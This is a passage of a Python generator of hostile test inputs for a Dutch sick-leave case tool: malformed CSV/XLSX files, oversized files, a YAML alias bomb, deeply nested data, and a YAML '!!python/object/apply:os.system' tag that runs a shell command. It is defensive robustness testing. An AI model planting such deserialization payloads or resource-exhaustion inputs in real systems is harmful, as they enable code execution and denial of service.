        ["Z-005", "Serieel als tekst", "", "46027", ""],
    ]
    body = "".join(
        f'<row r="{r}">'
        + "".join(
            cell(f"{chr(65 + c)}{r}", v, date_style=(r == 4 and c == 3))
            for c, v in enumerate(row)
            if v != ""
        )
        + "</row>"
        for r, row in enumerate(rows, start=1)
    )
    xml = (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet {_SS_NS}>'
        f"<sheetData>{body}</sheetData></worksheet>"
    )
    p = _xlsx(folder, "datums_tekst_en_getal", xlsx_parts([("Zaken", xml)]))
    return Case(
        p.name,
        p,
        "xlsx",
        "dates as ISO/NL text, as a date-styled serial, a plain serial and "
        "serial-as-text: accepted or a clear row error, never a crash",
    )


@generator
def xlsx_merged_cells(folder: Path) -> Case:
    rows: list[list[object]] = [
        list(HEADER),
        ["Z-001", "Jan de Vries", "", "2026-01-05", ""],
        [None, None, "", "2026-02-05", ""],  # dossier/naam merged down from row 2
        ["Z-003", "Merged over kolommen", None, None, None],
    ]
    merges = '<mergeCells count="2"><mergeCell ref="A2:B3"/><mergeCell ref="B4:E4"/></mergeCells>'
    p = _xlsx(
        folder, "samengevoegde_cellen", xlsx_parts([("Zaken", sheet_xml(rows, extra=merges))])
    )
    return Case(
        p.name,
        p,
        "xlsx",
        "merged cells (rows and columns): the empty parts are row errors "
        "(exit 2 naming the row), no crash",
        codes=frozenset({1, 2}),
    )


@generator
def xlsx_hidden_first_sheet(folder: Path) -> Case:
    hidden = sheet_xml([["geheim", "niet lezen"], ["x", "y"]])
    p = _xlsx(
        folder,
        "verborgen_eerste_blad",
        xlsx_parts([("Verborgen", hidden), ("Zaken", _good_sheet())], hidden=[0]),
    )
    return Case(
        p.name,
        p,
        "xlsx",
        "hidden first sheet: the first visible sheet is read, exit 0",
        codes=frozenset({0}),
    )


@generator
def csv_cp1252(folder: Path) -> Case:
    p = folder / "cp1252.csv"
    text = (
        ";".join(HEADER)
        + "\r\nZ-001;Zoë Hélène Müller;;05-01-2026;\r\nZ-002;René Açaï;;2026-02-01;\r\n"
    )
    p.write_bytes(text.encode("cp1252"))
    return Case(
        p.name, p, "csv", "cp1252 with é/ë: decoded correctly, exit 0", codes=frozenset({0})
    )


@generator
def csv_bom(folder: Path) -> Case:
    p = folder / "bom.csv"
    text = ",".join(HEADER) + "\nZ-001,Jan de Vries,,2026-01-05,\n"
    p.write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))
    return Case(p.name, p, "csv", "UTF-8 with BOM: header recognised, exit 0", codes=frozenset({0}))


@generator
def csv_empty(folder: Path) -> Case:
    p = folder / "leeg.csv"
    p.write_bytes(b"")
    return Case(p.name, p, "csv", "0 bytes: 'leeg', exit 2", codes=frozenset({2}), message="leeg")


@generator
def csv_binary_garbage(folder: Path) -> Case:
    p = folder / "rommel.csv"
    p.write_bytes(random.Random(7).randbytes(32 * 1024))
    return Case(
        p.name, p, "csv", "binary bytes named .csv: not a spreadsheet, exit 2", codes=frozenset({2})
    )


@generator
def csv_unclosed_quote(folder: Path) -> Case:
    p = folder / "open_aanhalingsteken.csv"
    p.write_text(";".join(HEADER) + '\nZ-001;"Jan' + " de Vries" * 20_000 + "\n", encoding="utf-8")
    return Case(
        p.name,
        p,
        "csv",
        "an unclosed quote swallowing 180 KB: 'geen leesbaar CSV', exit 2",
        codes=frozenset({2}),
    )


@generator
def csv_wide_header(folder: Path) -> Case:
    """200,000 distinct column names on one 2 MB line (a quadratic header check hangs)."""
    header = ";".join([*HEADER, *(f"k{i}" for i in range(200_000))])
    p = folder / "brede_kop.csv"
    p.write_text(header + "\nZ-001;Jan;;2026-01-05;\n", encoding="utf-8")
    return Case(p.name, p, "csv", "200,000 columns: read or refused quickly, not hang")


@generator
def csv_nul_after_head(folder: Path) -> Case:
    p = folder / "nul_teken.csv"
    filler = "".join(f"Z-{i};Jan;;2026-01-05;\n" for i in range(1000))
    p.write_bytes((";".join(HEADER) + "\n" + filler).encode() + b"Z-X;J\x00an;;2026-01-05;\n")
    return Case(p.name, p, "csv", "a NUL byte after the first 8 KB: exit 0/1/2, no crash")


def _one_row_csv(folder: Path, stem: str, column: str, value: str) -> Path:
    """Two cases; the second has ``value`` in ``column`` (an extra column if needed)."""
    p = folder / f"{stem}.csv"
    if column == "eerste_ziektedag":
        text = f"dossier;naam;eerste_ziektedag\nZ-001;Jan;2026-01-05\nZ-002;Piet;{value}\n"
    else:
        text = (
            f"dossier;naam;eerste_ziektedag;{column}\n"
            f"Z-001;Jan;2026-01-05;\nZ-002;Piet;2026-01-05;{value}\n"
        )
    p.write_text(text, encoding="utf-8")
    return p


def _extreme(folder: Path, stem: str, column: str, value: str, what: str) -> Case:
    p = _one_row_csv(folder, stem, column, value)
    return Case(
        p.name, p, "csv", f"{what}: a row error naming row 3 (exit 2; exit 1 with --skip-invalid)"
    )


@generator
def csv_extreme_first_day(folder: Path) -> Case:
    return _extreme(
        folder, "verre_ziektedag", "eerste_ziektedag", "9999-12-31", "eerste_ziektedag 9999-12-31"
    )


@generator
def csv_extreme_done_date(folder: Path) -> Case:
    return _extreme(
        folder, "verre_gedaan", "gedaan_probleemanalyse", "9999-12-31", "gedaan 9999-12-31"
    )


@generator
def csv_extreme_birth_date(folder: Path) -> Case:
    return _extreme(
        folder, "verre_geboortedatum", "geboortedatum", "9999-12-31", "geboortedatum 9999-12-31"
    )


@generator
def csv_extreme_verlenging(folder: Path) -> Case:
    return _extreme(
        folder, "enorme_verlenging", "verlenging_weken", "999999999", "verlenging 999,999,999 weeks"
    )


@generator
def xlsx_extreme_date_serials(folder: Path) -> Case:
    """Date-styled serial numbers at and beyond Excel's range, negative and huge."""
    rows = "".join(
        f'<row r="{r}">{cell(f"A{r}", f"Z-{r}")}{cell(f"B{r}", "Jan")}'
        f'<c r="C{r}" s="1"><v>{v}</v></c></row>'
        for r, v in enumerate(["2958465", "2958466", "-1", "1e308", "NaN"], start=2)
    )
    head = (
        '<row r="1">'
        + "".join(
            cell(f"{c}1", h)
            for c, h in zip("ABC", ("dossier", "naam", "eerste_ziektedag"), strict=True)
        )
        + "</row>"
    )
    xml = sheet_xml([]).replace("<sheetData></sheetData>", f"<sheetData>{head}{rows}</sheetData>")
    p = _xlsx(folder, "datum_getallen_extreem", xlsx_parts([("Zaken", xml)]))
    return Case(
        p.name,
        p,
        "xlsx",
        "date serials 2958465 (9999-12-31), 2958466, -1, 1e308, NaN: row errors, no crash",
    )


@generator
def csv_over_size_limit(folder: Path) -> Case:
    """257 MB (a sparse file: no disk space used), over the 256 MB reader limit."""
    p = folder / "te_groot.csv"
    with p.open("wb") as fh:
        fh.write(";".join(HEADER).encode() + b"\n")
        fh.truncate(257 * 1024 * 1024)
    return Case(
        p.name,
        p,
        "csv",
        "257 MB: refused before reading, Dutch message with the limit, exit 2",
        codes=frozenset({2}),
        message="grens",
    )


# --------------------------------------------------------------------------- 1,000,000 rows

BIG_ROWS = 1_000_000


@big_generator
def csv_million_rows(folder: Path) -> Case:
    p = folder / "miljoen.csv"
    with p.open("w", encoding="utf-8", newline="") as fh:
        fh.write(";".join(HEADER) + "\n")
        block = 10_000
        for start in range(0, BIG_ROWS, block):
            fh.write(
                "".join(
                    f"Z-{i};Werknemer {i};;2026-{1 + i % 12:02d}-{1 + i % 28:02d};\n"
                    for i in range(start, start + block)
                )
            )
    return Case(
        p.name, p, "csv", "1,000,000 rows: finishes (exit 0) or a Dutch size limit (exit 2)"
    )


@big_generator
def xlsx_million_rows(folder: Path) -> Case:
    p = folder / "miljoen.xlsx"
    parts = xlsx_parts([("Zaken", "")])
    del parts["xl/worksheets/sheet1.xml"]
    with zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        for name, data in parts.items():
            zf.writestr(name, data)
        with zf.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as raw:
            raw.write(
                f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet {_SS_NS}>'
                "<sheetData>".encode()
            )
            head = "".join(cell(f"{chr(65 + c)}1", h) for c, h in enumerate(HEADER))
            raw.write(f'<row r="1">{head}</row>'.encode())
            block = 10_000
            for start in range(0, BIG_ROWS, block):
                raw.write(
                    "".join(
                        f'<row r="{i + 2}"><c r="A{i + 2}" t="inlineStr"><is><t>Z-{i}</t></is></c>'
                        f'<c r="B{i + 2}" t="inlineStr"><is><t>Werknemer {i}</t></is></c>'
                        f'<c r="D{i + 2}" t="inlineStr"><is><t>2026-{1 + i % 12:02d}-'
                        f"{1 + i % 28:02d}</t></is></c></row>"
                        for i in range(start, start + block)
                    ).encode()
                )
            raw.write(b"</sheetData></worksheet>")
    return Case(
        p.name, p, "xlsx", "1,000,000 rows: finishes (exit 0) or a Dutch size limit (exit 2)"
    )


# --------------------------------------------------------------------------- case files (timeline)


@generator
def yaml_alias_bomb(folder: Path) -> Case:
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, 10):
        prev = chr(96 + i)
        lines.append(f"{chr(97 + i)}: &{chr(97 + i)} [" + ",".join([f"*{prev}"] * 9) + "]")
    lines.append("eerste_ziektedag: 2026-01-05")
    lines.append("herstel: *j")
    p = folder / "alias_bom.yaml"
    p.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return Case(p.name, p, "yaml", "YAML alias bomb (9^10 nodes): rejected quickly, exit 2")


@generator
def yaml_python_tag(folder: Path) -> Case:
    p = folder / "python_tag.yaml"
    p.write_text(
        "eerste_ziektedag: !!python/object/apply:os.system ['touch /tmp/poortwachter_pwned']\n",
        encoding="utf-8",
    )
    return Case(
        p.name, p, "yaml", "!!python/object tag: never executed, exit 2", codes=frozenset({2})
    )


@generator
def yaml_deep_nesting(folder: Path) -> Case:
    p = folder / "diep_genest.yaml"
    depth = 100_000
    p.write_text("eerste_ziektedag: 2026-01-05\nx: " + "[" * depth + "]" * depth + "\n")
    return Case(
        p.name, p, "yaml", "100,000 nested lists: exit 2, no RecursionError", codes=frozenset({2})
    )


@generator
def json_deep_nesting(folder: Path) -> Case:
    p = folder / "diep_genest.json"
    depth = 100_000
    p.write_text('{"eerste_ziektedag": "2026-01-05", "x": ' + "[" * depth + "]" * depth + "}")
    return Case(
        p.name, p, "json", "100,000 nested arrays: exit 2, no RecursionError", codes=frozenset({2})
    )


def main(argv: list[str]) -> None:
    """``cd tests && python -m hostile.corpus DIR [GENERATOR ...] [--big]``: write files."""
    big = "--big" in argv
    args = [a for a in argv if a != "--big"]
    if not args:
        raise SystemExit("usage: python -m hostile.corpus DIR [GENERATOR ...] [--big]")
    folder, wanted = Path(args[0]), set(args[1:])
    folder.mkdir(parents=True, exist_ok=True)
    for gen in GENERATORS + (BIG_GENERATORS if big else []):
        if not wanted or gen.__name__ in wanted:
            case = gen(folder)
            print(f"{gen.__name__}\t{case.path}\t{case.expectation}")


if __name__ == "__main__":
    import sys

    main(sys.argv[1:])
